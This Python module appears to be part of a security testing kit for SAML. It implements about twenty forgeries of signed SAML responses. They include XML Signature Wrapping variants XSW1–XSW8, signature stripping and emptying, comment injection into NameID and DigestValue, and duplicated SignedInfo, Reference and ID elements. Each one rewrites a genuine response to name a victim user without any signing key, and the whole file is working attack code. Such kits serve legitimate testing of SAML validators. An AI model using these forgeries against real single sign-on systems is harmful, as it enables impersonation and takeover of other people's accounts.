"""Documents by which somebody who has one good answer tries to become somebody else.

Each takes a signed response and gives back what the attacker posts; none needs a key. XSW1 to XSW8
are named as in "On Breaking SAML: Be Whoever You Want to Be" (Somorovsky and others, USENIX
Security 2012) and the tools after it.
"""

import re
from collections.abc import Callable
from copy import deepcopy

from lxml import etree

from providers.attacks.saml.messages import DS, SAML, SAMLP

Forgery = Callable[[etree._Element], bytes]  # noqa: SLF001 - lxml's name for it

SIGNATURE = f"{{{DS}}}Signature"
ASSERTION = f"{{{SAML}}}Assertion"
VICTIM = "attack-kit-victim"


def parts(root: etree._Element) -> tuple[etree._Element, etree._Element]:
    """The assertion, and the signature that matters: its own, else the response's."""
    assertion = root.find(ASSERTION)
    if assertion is None:
        raise ValueError("no assertion that can be read")
    signature = assertion.find(SIGNATURE)
    if signature is None:
        signature = root.find(SIGNATURE)
    if signature is None:
        raise ValueError("nothing is signed")
    return assertion, signature


def without_signatures(element: etree._Element) -> etree._Element:
    copy = deepcopy(element)
    for signature in list(copy.iter(SIGNATURE)):
        if (parent := signature.getparent()) is not None:
            parent.remove(signature)
    return copy


def as_somebody_else(element: etree._Element, suffix: str = "-evil") -> etree._Element:
    """An unsigned copy with another ID that speaks of the victim."""
    copy = without_signatures(element)
    copy.set("ID", f"{copy.get('ID')}{suffix}")
    for assertion in copy.iter(ASSERTION):
        if assertion is not copy:
            assertion.set("ID", f"{assertion.get('ID')}{suffix}")
    _rename(copy)
    return copy


def _rename(element: etree._Element) -> None:
    for name_id in element.iter(f"{{{SAML}}}NameID"):
        name_id.text = VICTIM
    for value in element.iter(f"{{{SAML}}}AttributeValue"):
        value.text = VICTIM


def xsw1(root: etree._Element) -> bytes:
    """The signed original hides inside the signature of a forged response."""
    evil = as_somebody_else(root)
    _, signature = parts(root)
    moved = deepcopy(signature)
    moved.append(without_signatures(root))
    evil.insert(1, moved)
    return etree.tostring(evil)


def xsw2(root: etree._Element) -> bytes:
    """The signed original stands before the moved signature."""
    evil = as_somebody_else(root)
    _, signature = parts(root)
    evil.insert(1, without_signatures(root))
    evil.insert(2, deepcopy(signature))
    return etree.tostring(evil)


def xsw3(root: etree._Element) -> bytes:
    """A forged assertion before the signed one."""
    assertion, _ = parts(root)
    assertion.addprevious(as_somebody_else(assertion))
    return etree.tostring(root)


def xsw4(root: etree._Element) -> bytes:
    """The signed assertion as a child of a forged one."""
    assertion, _ = parts(root)
    evil = as_somebody_else(assertion)
    root.replace(assertion, evil)
    evil.append(assertion)
    return etree.tostring(root)


def xsw5(root: etree._Element) -> bytes:
    """The assertion in place is forged and keeps the signature; the original comes last."""
    assertion, _ = parts(root)
    original = without_signatures(assertion)
    assertion.set("ID", f"{assertion.get('ID')}-evil")
    _rename(assertion)
    root.append(original)
    return etree.tostring(root)


def xsw6(root: etree._Element) -> bytes:
    """As XSW5, with the original inside the signature."""
    assertion, signature = parts(root)
    original = without_signatures(assertion)
    assertion.set("ID", f"{assertion.get('ID')}-evil")
    _rename(assertion)
    signature.append(original)
    return etree.tostring(root)


def xsw7(root: etree._Element) -> bytes:
    """The forged assertion comes first, in an Extensions element of the same ID."""
    assertion, _ = parts(root)
    extensions = etree.Element(f"{{{SAMLP}}}Extensions")
    evil = as_somebody_else(assertion, suffix="")
    extensions.append(evil)
    assertion.addprevious(extensions)
    return etree.tostring(root)


def xsw8(root: etree._Element) -> bytes:
    """The original hides in an Object of the signature that the forged assertion bears."""
    assertion, signature = parts(root)
    original = without_signatures(assertion)
    _rename(assertion)
    holder = etree.SubElement(signature, f"{{{DS}}}Object")
    holder.append(original)
    return etree.tostring(root)


def assertion_after(root: etree._Element) -> bytes:
    root.append(as_somebody_else(parts(root)[0]))
    return etree.tostring(root)


def copied_assertion(root: etree._Element) -> bytes:
    """The signed one twice, to the letter."""
    root.append(deepcopy(parts(root)[0]))
    return etree.tostring(root)


def changed_name(root: etree._Element) -> bytes:
    _rename(root)
    return etree.tostring(root)


def signatures_removed(root: etree._Element) -> bytes:
    return etree.tostring(without_signatures(root))


def signature_emptied(root: etree._Element) -> bytes:
    for value in root.iter(f"{{{DS}}}SignatureValue"):
        value.text = ""
    return etree.tostring(root)


def comment_in_name(root: etree._Element) -> bytes:
    """Canonicalisation without comments leaves the digest as it was."""
    return re.sub(rb"(<saml:NameID[^>]*>..)", rb"\1<!-- x -->", etree.tostring(root))


def comment_in_digest(root: etree._Element) -> bytes:
    return re.sub(rb"(<ds:DigestValue>)", rb"\1<!-- AAAA -->", etree.tostring(root))


def digest_twice(root: etree._Element) -> bytes:
    digests = rb"(<ds:DigestValue>.*?</ds:DigestValue>)"
    return re.sub(digests, rb"<ds:DigestValue>AAAA</ds:DigestValue>\1", etree.tostring(root))


def signed_info_twice(root: etree._Element) -> bytes:
    _, signature = parts(root)
    signature.insert(0, deepcopy(signature[0]))
    _rename(root)
    return etree.tostring(root)


def reference_twice(root: etree._Element) -> bytes:
    _, signature = parts(root)
    signature[0].append(deepcopy(signature[0][2]))
    return etree.tostring(root)


def reference_to_the_whole_document(root: etree._Element) -> bytes:
    _, signature = parts(root)
    signature[0][2].set("URI", "")
    return etree.tostring(root)


def identifier_elsewhere(root: etree._Element) -> bytes:
    """A second element answers to the signed ID, by another spelling of the attribute."""
    evil = etree.Element(f"{{{SAMLP}}}Extensions")
    hidden = etree.SubElement(evil, "{urn:x}hidden")
    hidden.set("Id", parts(root)[0].get("ID", ""))
    root.insert(1, evil)
    return etree.tostring(root)


FORGERIES: dict[str, Forgery] = {
    forge.__name__: forge
    for forge in (
        xsw1,
        xsw2,
        xsw3,
        xsw4,
        xsw5,
        xsw6,
        xsw7,
        xsw8,
        assertion_after,
        copied_assertion,
        changed_name,
        signatures_removed,
        signature_emptied,
        comment_in_name,
        comment_in_digest,
        digest_twice,
        signed_info_twice,
        reference_twice,
        reference_to_the_whole_document,
        identifier_elsewhere,
    )
}
